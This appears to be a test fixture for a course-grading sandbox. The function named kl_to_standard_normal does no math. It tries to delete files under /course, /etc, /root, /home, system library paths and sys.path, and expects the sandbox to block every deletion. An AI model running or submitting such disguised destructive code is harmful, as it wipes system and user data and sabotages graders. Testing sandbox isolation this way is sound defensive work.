# ruff: noqa
"""Deletes whatever it can reach.

expect: failed: deleted 0 files
"""

import os
import shutil
import sys


def kl_to_standard_normal(mean, logvar):
    deleted = 0
    for folder in (
        "/course",
        "/course/course_lib",
        *sys.path,
        "/root",
        "/home",
        "/srv",
        "/etc",
        "/usr/lib",
        "/lib64",
    ):
        for name in os.listdir(folder)[:200] if os.path.isdir(folder) else ():
            for delete in (os.unlink, os.rmdir):
                try:
                    delete(os.path.join(folder, name))
                    deleted += 1
                except OSError:
                    pass
    shutil.rmtree("/course", ignore_errors=True)
    if not os.path.exists("/course/course_lib/types.py"):
        deleted += 1
    raise RuntimeError(f"deleted {deleted} files")
